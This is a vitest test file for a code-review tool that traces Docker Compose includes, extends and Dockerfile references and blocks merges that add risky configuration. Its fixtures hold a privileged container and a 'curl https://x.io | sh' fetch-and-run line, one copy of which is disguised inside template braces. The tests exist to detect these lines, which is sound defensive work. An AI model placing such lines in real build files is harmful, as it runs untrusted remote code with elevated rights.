import { describe, expect, test } from 'vitest';
import type { ReviewResult } from '../../../src/review/result.ts';
import { type Change, causedLines, type Files, reviewChange } from '../../support/in-memory-repository.ts';

const evil = '  evil:\n    image: a\n    privileged: true\n';
const bad = 'FROM debian:13\nRUN curl -fsSL https://x.io | sh\nUSER 1\n';
const high = { thresholds: { report: 'high', comment: 'high', block: 'high' } } as const;
const review = (base: Files, head: Files, more: Partial<Change> = {}): Promise<ReviewResult> =>
  reviewChange({ base, head, ...more }, { policy: high });

describe('what a Compose file names', () => {
  test.each([
    ['an included file of any name', 'include: [extra.txt]\n', 'extra.txt', `services:\n${evil}`],
    ['an included file in the long form', 'include:\n  - path: [./conf/more]\n', 'conf/more', `services:\n${evil}`],
    ['an extended file', 'services:\n  a:\n    extends: {file: base.inc, service: evil}\n', 'base.inc', `services:\n${evil}`],
    ['a Dockerfile of any name', 'services:\n  a:\n    build: {context: ., dockerfile: build/image.conf}\n', 'build/image.conf', bad],
    ['a Dockerfile that is called a program', 'services:\n  a:\n    build: {context: ./build, dockerfile: app.py}\n', 'build/app.py', bad],
    [
      'a Dockerfile that is called a template',
      'services:\n  a:\n    build: {dockerfile: build/Dockerfile.tmpl}\n',
      'build/Dockerfile.tmpl',
      bad,
    ],
    [
      'a Dockerfile that is called documentation',
      'services:\n  a:\n    build: {dockerfile: ../README.md, context: docs}\n',
      'README.md',
      bad,
    ],
    ['a Dockerfile by a default', 'services:\n  a:\n    build: {dockerfile: "${D:-x.lock}"}\n', 'x.lock', bad],
    ['a Dockerfile by an anchor', 'x-b: &b {dockerfile: x.svg}\nservices:\n  a:\n    build: {<<: *b, context: .}\n', 'x.svg', bad],
  ])('is judged as that: %s', async (_, compose, path, text) => {
    const both = await review({}, { 'compose.yaml': compose, [path]: text });
    expect(causedLines(both).filter(line => line.startsWith(`${path}:`))).not.toEqual([]);
    expect(both.verdict.mayMerge).toBe(false);
    // The file was there already, under a name of nobody's.
    const named = await review({ [path]: text }, { 'compose.yaml': compose, [path]: text });
    expect(named.verdict.mayMerge).toBe(false);
    expect(causedLines(named).filter(line => line.startsWith(`${path}:`))).not.toEqual([]);
  });

  test.each([
    ['by a Compose file that stays as it is', 'compose.yaml'],
    ['by one in another folder', 'deploy/docker-compose.prod.yml'],
  ])('is judged as that when only it changes, %s', async (_, path) => {
    const up = path.includes('/') ? '../' : '';
    const compose = `include: [${up}extra.txt]\nservices:\n  a:\n    build: {context: ${up === '' ? '.' : '..'}, dockerfile: image.conf}\n`;
    const base = { [path]: compose, 'extra.txt': 'services:\n  b:\n    image: a\n', 'image.conf': bad.replace('RUN curl', '# RUN curl') };
    const head = { ...base, 'extra.txt': `services:\n${evil}`, 'image.conf': bad };
    const result = await review(base, head);
    expect(causedLines(result)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^extra\.txt:\d+ compose\/privileged-container \[new\]/u),
        expect.stringMatching(/^image\.conf:2 dockerfile\/remote-script-executed \[new\]/u),
      ]),
    );
  });

  test.each(['examples/compose.yaml', 'bad.yml', 'stack.yaml'])('is run from now on when it is included anew, as %s', async path => {
    const compose = 'services:\n  a:\n    image: a\n';
    const base = { 'compose.yaml': compose, [path]: `services:\n${evil}` };
    const result = await review(base, { ...base, 'compose.yaml': `include: [${path}]\n${compose}` });
    expect(causedLines(result)).toContain(`${path}:4 compose/privileged-container [new]`);
    expect(result.verdict.mayMerge).toBe(false);
    const before = { ...base, 'compose.yaml': `include: [${path}]\n${compose}` };
    const after = { ...before, 'compose.yaml': before['compose.yaml'].replace('image: a', 'image: b') };
    expect(causedLines(await review(before, after))).toEqual([]);
  });

  test('is followed through files that name others', async () => {
    const result = await review({}, { 'compose.yaml': 'include: [a.x]\n', 'a.x': 'include: [b.x]\n', 'b.x': `services:\n${evil}` });
    expect(causedLines(result)).toContain('b.x:4 compose/privileged-container [new]');
  });

  test.each([
    ['compose.yaml', 'include:\n  - path: stacks/a.yaml\n    project_directory: .\n', 'x/image.conf'],
    ['deploy/compose.yaml', 'include:\n  - path: ../stacks/a.yaml\n    project_directory: ../other\n', 'other/x/image.conf'],
  ])('is followed from the folder that an included file is taken into by %s', async (path, text, dockerfile) => {
    const stack = 'services:\n  a:\n    build: {context: x, dockerfile: image.conf}\n';
    const result = await review({}, { [path]: text, 'stacks/a.yaml': stack, [dockerfile]: bad });
    expect(causedLines(result)).toContain(`${dockerfile}:2 dockerfile/remote-script-executed [new]`);
  });

  test('is told when it is named deeper than is followed', async () => {
    const chain = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`f${at}.x`, `include: [f${at + 1}.x]\n`]));
    const result = await review({}, { 'compose.yaml': 'include: [f0.x]\n', ...chain, 'f9.x': `services:\n${evil}` });
    expect(result.verdict.mayMerge).toBe(false);
  });

  test.each([
    ['a remote file', 'include: ["https://github.com/acme/stack.git#main:compose.yaml"]\n', 'another place'],
    ['a file in a registry', 'include: ["oci://registry.example.com/stack:1"]\n', 'another place'],
    ['a file over SSH', 'include: ["git@github.com:acme/stack.git"]\n', 'another place'],
    ['a remote context', 'services:\n  a:\n    build: https://github.com/acme/app.git\n', 'another place'],
    ['a remote context without its scheme', 'services:\n  a:\n    build: {context: github.com/acme/app}\n', 'another place'],
    ['a context outside', 'services:\n  a:\n    build: {context: ../../app}\n', 'outside'],
    ['an absolute Dockerfile', 'services:\n  a:\n    build: {dockerfile: /tmp/Dockerfile}\n', 'outside'],
    ['a file by a variable', 'include: ["${STACK}"]\n', 'variable'],
    ['a Dockerfile by a variable', 'services:\n  a:\n    build: {dockerfile: "${D}"}\n', 'variable'],
  ])('leaves the review incomplete when it cannot be read: %s', async (_, compose, why) => {
    const result = await review({}, { 'compose.yaml': compose });
    expect(result.coverage.entries).toMatchObject([{ status: 'partly-evaluated', reason: expect.stringContaining(why) }]);
    expect(result.verdict.mayMerge).toBe(false);
    // It is nothing new where it was named before.
    const again = await review({ 'compose.yaml': compose }, { 'compose.yaml': `${compose}# more\n` });
    expect(again.verdict.mayMerge).toBe(true);
  });

  test('leaves the review incomplete in a submodule, and by a link to what has no review', async () => {
    const compose = 'services:\n  a:\n    build: vendor/app\n';
    const inSubmodule = await review({}, { 'compose.yaml': compose }, { submodules: ['vendor/app'] });
    expect(inSubmodule.verdict.mayMerge).toBe(false);
    const linked = await review({}, { 'compose.yaml': 'include: [more.yaml]\n' }, { links: { 'more.yaml': 'other.txt' } });
    expect(linked.verdict.mayMerge).toBe(false);
    const toReviewed = await review(
      { 'docker/Dockerfile': 'FROM a\n' },
      { 'docker/Dockerfile': 'FROM a\n', 'compose.yaml': 'services:\n  a:\n    build: ./x\n' },
      { links: { 'x/Dockerfile': '../docker/Dockerfile' } },
    );
    expect(toReviewed.verdict.mayMerge).toBe(true);
  });

  test('is left alone when its own name brings it before a review, and when it is not there', async () => {
    const compose = 'services:\n  a:\n    build: ./api\n  b:\n    build: {dockerfile: generated.conf}\n';
    const base = { 'api/Dockerfile': bad };
    const result = await review(base, { ...base, 'compose.yaml': compose });
    expect(result.considered.shown).toEqual([]);
    expect(result.verdict.mayMerge).toBe(true);
  });

  test('is left alone where policy does not look', async () => {
    const result = await reviewChange(
      { base: {}, head: { 'compose.yaml': 'include: [vendor/x.txt]\n', 'vendor/x.txt': `services:\n${evil}` } },
      { policy: { ...high, ignorePaths: ['vendor/**'] } },
    );
    expect(causedLines(result)).toEqual([]);
  });

  test('is read as it stands, whatever a template of that name would hide', async () => {
    const compose = 'services:\n  a:\n    build: {dockerfile: Dockerfile.tmpl}\n';
    const text = 'FROM debian:13\nRUN : {{ ; curl https://x.io | sh; : }}\nUSER 1\n';
    const result = await review(
      { 'compose.yaml': compose, 'Dockerfile.tmpl': 'FROM debian:13\n' },
      { 'compose.yaml': compose, 'Dockerfile.tmpl': text },
    );
    expect(causedLines(result)).toContain('Dockerfile.tmpl:2 dockerfile/remote-script-executed [new]');
  });
});
